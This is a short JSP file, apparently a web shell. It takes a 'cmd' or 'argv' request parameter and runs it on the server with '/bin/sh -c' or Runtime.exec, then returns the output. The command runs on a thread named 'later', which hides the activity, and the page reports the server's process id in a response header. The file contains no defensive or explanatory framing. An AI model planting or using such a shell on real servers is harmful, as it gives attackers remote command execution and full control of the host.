<%-- SPDX-License-Identifier: GPL-2.0 --%>
<%-- Runs ?cmd= by a shell, or ?argv=&argv= without one, in a thread of another name. --%>
<%@ page contentType="text/plain" trimDirectiveWhitespaces="true"
	import="java.util.concurrent.CompletableFuture" %>
<%
	String cmd = request.getParameter("cmd");
	String[] argv = cmd != null ? new String[] { "/bin/sh", "-c", cmd } :
		request.getParameterValues("argv");

	response.setHeader("X-Pid", "" + ProcessHandle.current().pid());
	out.print(CompletableFuture.supplyAsync(() -> {
		try {
			Process process = Runtime.getRuntime().exec(argv);
			return new String(process.getInputStream().readAllBytes());
		} catch (java.io.IOException e) {
			return e.toString();
		}
	}, task -> new Thread(task, "later").start()).get());
%>
